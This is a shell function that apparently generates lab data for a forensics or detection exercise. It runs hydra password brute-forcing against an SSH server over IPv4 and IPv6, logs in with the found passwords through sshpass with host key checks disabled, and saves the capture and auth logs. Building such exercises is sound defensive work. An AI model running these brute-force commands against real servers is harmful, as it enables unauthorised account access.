# hydra against a real sshd from outside: over IPv4 until it finds drift's password, over IPv6 until it finds root's.
record_ssh_password_attack() {
  local folder=$1 number
  for number in $(seq 1 29); do echo "passord$number"; done > "$WORK/passwords4"
  cp "$WORK/passwords4" "$WORK/passwords6"
  echo fjellvarde >> "$WORK/passwords4"
  echo sommer2026 >> "$WORK/passwords6"
  start_capture
  ordinary_round
  on attacker hydra -I -q -t 4 -f -l drift -P "$WORK/passwords4" ssh://10.20.0.10 >/dev/null 2>&1 || true
  attacker_login 4 drift@10.20.0.10 fjellvarde
  ordinary_round
  on attacker hydra -I -q -6 -t 4 -f -l root -P "$WORK/passwords6" 'ssh://[2001:db8:20::10]' >/dev/null 2>&1 || true
  attacker_login 6 root@2001:db8:20::10 sommer2026
  ordinary_round
  mistyped_login 4 10.20.0.10
  mistyped_login 6 2001:db8:20::10
  stop_capture
  retime 2026-03-06T22:40:00Z
  cp "$WORK/timed.pcap" "$folder/capture.pcap"
  { syslog_lines rfc3164 'from 203.0.113.9'; syslog_lines rfc3164 'from 198.51.100.77'; } > "$folder/auth.log"
  { syslog_lines rfc5424 'from 2001:db8:f:bad::9'; syslog_lines rfc5424 'from 2001:db8:f::77'; } > "$folder/auth-rfc5424.log"
}

attacker_login() {
  on attacker sshpass -p "$3" ssh "-$1" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR "$2" id >/dev/null 2>&1 || true
}
